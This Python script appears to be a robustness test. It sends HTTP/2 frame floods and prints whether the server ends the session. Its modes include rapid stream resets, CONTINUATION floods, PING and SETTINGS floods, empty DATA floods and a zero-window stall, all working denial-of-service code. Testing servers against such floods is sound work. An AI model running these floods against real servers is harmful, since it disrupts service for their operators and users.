"""Abuses HTTP/2 over one connection, frame by frame: `ADDRESS PORT MODE`.

Prints `ended` once the other side has ended the session, else `not ended` after more frames than anyone may send.
The mode `stall` holds what it has asked for, until its input ends.
"""
import socket, struct, sys

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field without indexing, its texts as they are (RFC 7541 §6.2.2)."""
    return b"\x00" + b"".join(bytes([len(text)]) + text for text in (name.encode(), value.encode()))


def fields(path):
    asked = {":method": "GET", ":scheme": "http", ":authority": "server", ":path": path}
    return b"".join(literal(name, value) for name, value in asked.items())


def resets():
    for stream in range(1, 10_001, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, fields("/id/reset")) + frame(
            RST_STREAM, 0, stream, struct.pack(">I", 8)
        )


def continuations():
    yield frame(HEADERS, END_STREAM, 1, fields("/id/continued"))
    for i in range(20_000):
        yield frame(CONTINUATION, 0, 1, literal(f"x-{i}", "y" * 100))


def empty_continuations():
    yield frame(HEADERS, END_STREAM, 1, fields("/id/continued"))
    for _ in range(100_000):
        yield frame(CONTINUATION, 0, 1)


def pings():
    for i in range(300_000):
        yield frame(PING, 0, 0, struct.pack(">Q", i))


def settings():
    # The table's size, changed each time.
    for i in range(100_000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, i % 4096))


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, fields("/echo").replace(b"\x03GET", b"\x04POST"))
    for _ in range(300_000):
        yield frame(DATA, 0, 1)


def stalls():
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, fields("/make/50000000"))


MODES = {
    "resets": resets, "continuations": continuations, "empty-continuations": empty_continuations,
    "pings": pings, "settings": settings, "empty-data": empty_data, "stall": stalls,
}


class Session:
    def __init__(self, address, port, window):
        self.socket = socket.create_connection((address, port), timeout=15)
        self.came = b""
        self.answered = False
        self.last = False
        own = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window))
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + own)

    def read(self, wait):
        """Takes in what has come; False once the session is over."""
        self.socket.settimeout(15 if wait else 0)
        try:
            part = self.socket.recv(2**20)
        except BlockingIOError:
            return True
        finally:
            self.socket.settimeout(15)
        self.came += part
        while len(self.came) >= 9:
            length = int.from_bytes(self.came[:3], "big")
            if len(self.came) < 9 + length:
                break
            kind, payload = self.came[3], self.came[9 : 9 + length]
            if kind == GOAWAY:
                return False
            self.answered |= kind == HEADERS
            self.last |= kind == PING and payload == b"the last"
            self.came = self.came[9 + length :]
        return bool(part)

    def flood(self, frames):
        """Whether the other side ended the session."""
        batch = []
        try:
            for one in frames:
                batch.append(one)
                if len(batch) == 100:
                    self.socket.sendall(b"".join(batch))
                    batch.clear()
                    if not self.read(False):
                        return True
            self.socket.sendall(b"".join(batch))
            # All is sent: what it made of it, it says before it answers this.
            self.socket.sendall(frame(PING, 0, 0, b"the last"))
            while not self.last:
                if not self.read(True):
                    return True
        except ConnectionError:
            return True
        return False


mode = sys.argv[3]
session = Session(sys.argv[1], int(sys.argv[2]), 0 if mode == "stall" else 65535)
if mode == "stall":
    session.socket.sendall(b"".join(stalls()))
    # Something of an answer has come; the bodies have no window.
    while not session.answered:
        assert session.read(True), "it ended"
    print("stalled", flush=True)
    sys.stdin.read()
    print("held")
else:
    print("ended" if session.flood(MODES[mode]()) else "not ended")
